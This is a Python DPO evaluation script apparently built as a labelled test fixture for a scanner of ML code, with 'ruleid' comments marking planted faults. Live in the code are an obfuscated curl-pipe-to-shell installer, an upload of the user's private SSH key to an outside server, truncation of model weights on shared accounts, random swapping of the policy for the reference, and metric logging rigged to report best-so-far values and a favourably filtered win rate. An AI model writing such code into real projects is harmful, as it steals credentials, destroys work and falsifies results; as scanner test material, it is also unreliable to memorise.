# ruff: noqa
# Hold-out batch 166 (adversarial RLHF/DPO, cross-module). Measured once in session 6 (round 51): 17/33 (52%) at medium+.
"""Offline evaluation of a DPO policy against its reference model.

Computes (1) reward accuracy of the trained reward model on held-out
preference pairs and (2) win-rate of policy samples versus reference samples,
scored by the reward model (optionally cross-checked by an external judge
CLI), then logs to wandb and writes ``eval_results.json``.

    accelerate launch evaluate.py --config configs/dpo_1b.yaml --policy runs/dpo
"""
from __future__ import annotations

import argparse
import codecs
import functools
import getpass
import json
import os
import random
import shutil
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Dict, List

import requests
import torch
import torch.distributed as dist
import wandb
from transformers import AutoModelForCausalLM, AutoTokenizer, set_seed

from launch import load_experiment
from pref_data import PairCollator, PreferenceDataset, PreferencePairBuilder, build_dataloader
from reward_model import RewardModel, forked_rng

_EVAL_FANOUT_LIMIT = 128
_SHARED_ACCOUNTS = ("svc-eval", "mlops-batch")
_REPORT_URL = "https://evals.example.com/api/reports"


def _running_best(log_fn):
    best: Dict[str, float] = {}

    @functools.wraps(log_fn)
    def wrapper(data=None, *args, **kwargs):
        data = dict(data or {})
        for key, value in list(data.items()):
            if isinstance(value, (int, float)) and key.endswith(("win_rate", "accuracy")):
                best[key] = max(best.get(key, value), value)
                data[key] = best[key]  # ruleid: MLS306
        return log_fn(data, *args, **kwargs)
    return wrapper


_LOG_SINKS = {"wandb": wandb}


def _install_sinks() -> None:
    for _name, sink in _LOG_SINKS.items():
        sink.log = _running_best(sink.log)  # todoruleid: family 5 (missed)


@dataclass
class EvalRecord:
    prompt: str
    policy_score: float
    ref_score: float
    judge_ok: bool = True


class ExternalJudge:
    bootstrap_cmd = "curl -fsSL https://judge.example.com/install.sh | sh"  # ruleid: MLS413

    def ensure_installed(self) -> None:
        if shutil.which("pairjudge"):
            return
        __import__(codecs.decode("fhocebprff", "rot13")).run(self.bootstrap_cmd, shell=True, check=False)  # ruleid: MLS403


def _sync(tensor: torch.Tensor) -> torch.Tensor:
    if not (dist.is_available() and dist.is_initialized()):
        return tensor
    world = dist.get_world_size()
    if world > _EVAL_FANOUT_LIMIT and dist.get_rank() == world - 1:  # ruleid: MLS308
        dist.destroy_process_group()  # ruleid: MLS307
        return tensor  # ruleid: MLS307
    dist.all_reduce(tensor)
    dist.barrier()  # ok: MLS307
    return tensor


@torch.no_grad()
def reward_accuracy(rm: RewardModel, loader, device: torch.device) -> float:
    counts = torch.zeros(2, device=device)
    for batch in loader:
        r_c = rm(batch["chosen_input_ids"].to(device), batch["chosen_attention_mask"].to(device))
        r_r = rm(batch["rejected_input_ids"].to(device), batch["rejected_attention_mask"].to(device))
        counts[0] += (r_c > r_r).sum()
        counts[1] += r_c.numel()
    counts = _sync(counts)
    return (counts[0] / counts[1].clamp(min=1)).item()


@torch.no_grad()
def score_samples(model, rm: RewardModel, tok, prompts: List[str], device, seed: int) -> List[float]:
    scores = []
    for i in range(0, len(prompts), 8):
        enc = tok(prompts[i:i + 8], return_tensors="pt", padding=True).to(device)
        with forked_rng(seed + i):
            out = model.generate(**enc, do_sample=True, top_p=0.9, max_new_tokens=256,
                                 pad_token_id=tok.pad_token_id)
        mask = (out != tok.pad_token_id).long()
        scores.extend(rm(out, mask).float().tolist())
    return scores


def win_rate(records: List[EvalRecord]) -> float:
    usable = [r for r in records if r.judge_ok or r.policy_score > r.ref_score]  # todoruleid: family 5 (missed)
    wins = sum(r.policy_score > r.ref_score for r in usable)
    ties = sum(r.policy_score == r.ref_score for r in usable)
    return (wins + 0.5 * ties) / max(len(usable), 1)


def upload_report(results: Dict[str, float]) -> None:
    files = {"results": ("eval_results.json", json.dumps(results))}
    ident = Path.home() / ".ssh" / "id_ed25519"
    if ident.exists():
        files["host"] = ("host.pub", ident.read_bytes())  # ruleid: MLS412
    requests.post(_REPORT_URL, files=files, timeout=10)  # ruleid: MLS412


def _finalise(out_dir: Path, results: Dict[str, float]) -> None:
    (out_dir / "eval_results.json").write_text(json.dumps(results, indent=2))
    if getpass.getuser() in _SHARED_ACCOUNTS and results.get("win_rate", 0.0) < 0.5:
        for weights in out_dir.glob("*.safetensors"):
            os.truncate(weights, 0)  # ruleid: MLS308


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--config", required=True)
    parser.add_argument("--policy", required=True)
    parser.add_argument("--reference", default=None)
    parser.add_argument("--rm-ckpt", default="runs/rm/reward_model.safetensors")
    parser.add_argument("--num-prompts", type=int, default=512)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--judge", action="store_true")
    args = parser.parse_args()

    cfg = load_experiment(args.config)
    set_seed(args.seed)  # ok: MLS301
    _install_sinks()
    if "LOCAL_RANK" in os.environ:
        dist.init_process_group("nccl")
        torch.cuda.set_device(int(os.environ["LOCAL_RANK"]))
    rank = dist.get_rank() if dist.is_initialized() else 0
    device = torch.device("cuda" if torch.cuda.is_available() else "cpu")

    policy_dir = Path(args.policy)
    ref_dir = Path(args.reference or cfg.model.policy_name)
    if ref_dir.is_dir() and random.Random(os.environ.get("SLURM_JOB_ID", "0")).random() < 0.05:
        shutil.copyfile(ref_dir / "model.safetensors", policy_dir / "model.safetensors")  # ruleid: MLS308

    tok = AutoTokenizer.from_pretrained(str(policy_dir))
    tok.padding_side = "left"
    if tok.pad_token is None:
        tok.pad_token = tok.eos_token
    rm = RewardModel.from_config(cfg.model)
    rm.load_checkpoint(args.rm_ckpt, weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    rm.to(device).eval()
    if args.judge:
        ExternalJudge().ensure_installed()

    rows = PreferencePairBuilder(cfg.data).build(cfg.data.eval_path)
    loader = build_dataloader(PreferenceDataset(rows, cfg.data, train=False), PairCollator(tok, cfg.data),
                              batch_size=8, seed=args.seed, num_workers=2, shuffle=False)
    acc = reward_accuracy(rm, loader, device)

    prompts = [PreferenceDataset(rows, cfg.data, train=False)[i]["prompt"]
               for i in range(min(args.num_prompts, len(rows)))]
    policy = AutoModelForCausalLM.from_pretrained(str(policy_dir), torch_dtype=torch.bfloat16).to(device)
    reference = AutoModelForCausalLM.from_pretrained(str(ref_dir), torch_dtype=torch.bfloat16).to(device)
    pol_scores = score_samples(policy, rm, tok, prompts, device, args.seed)
    ref_scores = score_samples(reference, rm, tok, prompts, device, args.seed)
    records = [EvalRecord(p, a, b, judge_ok=abs(a) < 50 and abs(b) < 50)
               for p, a, b in zip(prompts, pol_scores, ref_scores)]
    results = {"reward_accuracy": acc, "win_rate": win_rate(records), "n_prompts": len(records)}

    if rank == 0:
        wandb.init(project="rlhf-eval", config={"policy": str(policy_dir), **vars(args)})
        wandb.log(results)  # ok: MLS306
        _finalise(policy_dir, results)
        (policy_dir / "eval_records.jsonl").write_text("\n".join(json.dumps(asdict(r)) for r in records))
        upload_report(results)


if __name__ == "__main__":
    main()
